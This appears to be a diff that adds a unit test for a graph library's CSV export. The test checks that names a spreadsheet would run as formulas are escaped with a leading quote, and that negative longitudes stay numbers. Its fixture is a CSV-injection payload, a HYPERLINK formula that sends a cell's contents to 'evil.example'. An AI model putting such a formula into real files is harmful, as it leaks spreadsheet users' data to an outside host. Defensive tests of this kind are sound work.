@@ -41,6 +41,16 @@ describe('exports', () => {
     assert.equal(tricky[0]?.['name_en'], 'Line\nbreak, comma');
   });
 
+  it('CSV keeps a name a spreadsheet would run as a formula as text, and numbers as numbers', () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A2,"C40")';
+    const named: Graph = { ...awkward, nodes: [{ ...awkward.nodes[0]!, name: { id: formula, en: '@SUM(1)' } }, awkward.nodes[1]!] };
+    const [row] = csvParse(toNodesCsv(named));
+    assert.equal(row?.['name_id'], `'${formula}`);
+    assert.equal(row?.['name_en'], "'@SUM(1)");
+    const [southern] = csvParse(toNodesCsv(seeds, layout)).filter((n) => n['id'] === 'buenos-aires');
+    assert.match(southern?.['longitude'] ?? '', /^-58\./);
+  });
+
   it('GraphML is well-formed XML with typed keys, every node and every edge', () => {
     for (const graph of [seeds, awkward]) {
       const text = toGraphML(graph, layout);
